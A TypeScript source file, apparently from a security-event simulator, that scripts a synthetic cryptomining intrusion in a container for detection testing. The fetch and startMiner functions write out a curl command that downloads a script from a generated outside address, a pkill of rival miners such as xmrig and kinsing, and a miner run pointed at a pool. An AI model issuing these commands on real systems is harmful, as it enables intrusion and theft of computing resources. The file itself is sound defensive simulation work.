import { connect } from "../events/network-event.ts";
import { daemon, run } from "../events/process-event.ts";
import type { Container, Process } from "../events/audit-event.ts";
import { listedConnection } from "../events/threat-intel-event.ts";
import type { Host } from "../hosts.ts";
import { downloadPath, hiddenPath, inventedWord } from "../props.ts";
import { ownContainer } from "../routine/container-work.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { MINUTE_MS } from "../../seeded/time.ts";
import { serviceAccount } from "../unix-account.ts";
import { cleanHost } from "./response.ts";
import { castHost, factsOf, momentOf, tell } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly container: Container;
  /** The server program that was exploited. */
  readonly server: string;
  readonly dropIp: string;
  readonly script: string;
  readonly poolIp: string;
  readonly poolPort: number;
  readonly miner: string;
}

const ROOT = serviceAccount("root");
const SERVERS = [
  "/opt/java/openjdk/bin/java",
  "/usr/lib/jvm/java-11/bin/java",
  "/usr/local/tomcat/jre/bin/java",
  "/opt/confluence/jre/bin/java",
];
const PRODUCTS = "tomcat struts spring-admin solr report-renderer activemq confluence nifi".split(
  " ",
);

function castOf(options: StoryOptions): Cast {
  const { world, random } = options;
  const product = `${random.pick(["legacy", "internal", "demo", inventedWord(random)])}-${random.pick(PRODUCTS)}`;
  const image = `${product}:${random.int(1, 9)}.${random.int(0, 20)}`;
  return {
    host: castHost(options, [...world.hostsOf("docker"), ...world.hostsOf("node")]),
    container: { id: random.hex(64), image, labels: { "com.example.service": product } },
    server: random.pick(SERVERS),
    dropIp: strangerAddress(random),
    script: downloadPath(random),
    poolIp: strangerAddress(random),
    poolPort: random.pick([3333, 4444, 5555, 14_444]),
    miner: hiddenPath(random),
  };
}

/** A vulnerable service in a container fetches a miner and works for somebody else. */
export function containerMiner(options: StoryOptions): Story {
  const { random, start } = options;
  const cast = castOf(options);
  const { image } = cast.container;
  const fetchAt = start + random.int(4, 9) * MINUTE_MS;
  const minerAt = fetchAt + random.int(6, 20) * MINUTE_MS;
  const { host, server, dropIp, script, miner, poolIp } = cast;
  return tell(options, {
    id: "container-miner",
    kind: "attack",
    platforms: ["container"],
    rootCause: `${server} in a container of ${image} on ${host.name} started a shell`,
    backdrops: [
      {
        name: "neighbours",
        start: start - 40 * MINUTE_MS,
        perform: (stage) => runNeighbours(stage, host),
      },
    ],
    chapters: [
      {
        name: "exploit",
        start,
        deed: `${server} in a container of ${image} on ${host.name} ran commands`,
        facts: factsOf(
          ["host", host.name],
          ["object", image],
          ["user", ROOT.user],
          ["time", momentOf(start)],
        ),
        perform: (stage) => exploit(stage, cast),
      },
      {
        name: "fetch",
        start: fetchAt,
        deed: `it fetched ${script} from ${dropIp}`,
        facts: factsOf(["address", dropIp], ["object", script]),
        perform: (stage) => fetch(stage, cast),
      },
      {
        name: "mining",
        start: minerAt,
        deed: `${miner} mines at ${poolIp}`,
        facts: factsOf(["tool", miner], ["address", poolIp], ["time", momentOf(minerAt)]),
        perform: (stage) => mine(stage, cast),
      },
    ],
    response: cleanHost({
      host,
      lines: [`docker stop ${cast.container.id.slice(0, 12)}`, `docker image rm ${image}`],
    }),
  });
}

// The other containers of the machine run their own scripts with the same shell.
function* runNeighbours(stage: Stage, host: Host): Script {
  const scene = atHost(stage, host);
  const neighbours = [ownContainer(stage), ownContainer(stage)];
  const parent = daemon(scene, "/usr/bin/containerd-shim-runc-v2");
  for (let index = 0; index < 36; index += 1) {
    const container = stage.random.pick(neighbours);
    const script = stage.random.pick(["/app/cron.sh", "/app/rotate.sh", "test -f /app/ready"]);
    const argv = ["sh", "-c", script];
    yield* run(scene, { as: ROOT, exe: "/bin/sh", argv, parent, container });
    wait(stage, 20_000, 4 * MINUTE_MS);
  }
}

function* exploit(stage: Stage, { host, container, server }: Cast): Script {
  const scene = atHost(stage, host);
  const base = { as: ROOT, container };
  const parent = daemon(scene, server);
  let isFirst = true;
  for (const line of ["id", "uname -a", "cat /proc/cpuinfo"]) {
    const argv = ["sh", "-c", line];
    const start = { ...base, exe: "/bin/sh", argv, parent, isCause: isFirst };
    const shell = yield* run(scene, start);
    isFirst = false;
    const words = line.split(" ");
    yield* run(scene, { ...base, exe: `/usr/bin/${words[0]}`, argv: words, parent: shell });
    wait(stage, 4000, 40_000);
  }
}

function* fetch(stage: Stage, { host, container, server, dropIp, script }: Cast): Script {
  const scene = atHost(stage, host);
  const base = { as: ROOT, container };
  const argv = ["curl", "-fsSL", `http://${dropIp}${script}`, "-o", "/tmp/s.sh"];
  const shell = yield* run(scene, {
    ...base,
    exe: "/bin/sh",
    argv: ["sh", "-c", argv.join(" ")],
    parent: daemon(scene, server),
  });
  const curl = yield* run(scene, { ...base, exe: "/usr/bin/curl", argv, parent: shell });
  const socket = { ...base, process: curl, argv, parent: shell };
  yield connect(scene, { ...socket, remote: { ip: dropIp, port: 80 } });
}

function* startMiner(scene: Scene, cast: Cast): Script<{ shell: Process; process: Process }> {
  const { container, server, poolIp, poolPort, miner } = cast;
  const base = { as: ROOT, container };
  const shell = yield* run(scene, {
    ...base,
    exe: "/bin/sh",
    argv: ["sh", "/tmp/s.sh"],
    parent: daemon(scene, server),
  });
  const rival = scene.random.pick(["kinsing", "kdevtmpfsi", "xmrig", "sysrv", "watchbog"]);
  const kill = ["pkill", "-9", "-f", rival];
  yield* run(scene, { ...base, exe: "/usr/bin/pkill", argv: kill, parent: shell });
  wait(scene, 500, 3000);
  const argv = [miner, "-o", `${poolIp}:${poolPort}`, "--donate-level", "1", "-B"];
  const process = yield* run(scene, { ...base, exe: miner, argv, parent: shell, cwd: "/tmp" });
  return { shell, process };
}

function* mine(stage: Stage, cast: Cast): Script {
  const { host, container, poolIp: ip, poolPort: port, miner } = cast;
  const scene = atHost(stage, host);
  const { shell, process } = yield* startMiner(scene, cast);
  const list = { source: "emerging-example", reason: "mining pool", type: "miner" };
  const socket = { as: ROOT, container, process, argv: [miner], parent: shell };
  for (let index = 0; index < 48; index += 1) {
    yield connect(scene, { ...socket, remote: { ip, port } });
    if (index % 16 === 0) {
      yield listedConnection(scene, { as: ROOT, process, ip, port, direction: "outbound", list });
    }
    wait(stage, 20_000, 4 * MINUTE_MS);
  }
}
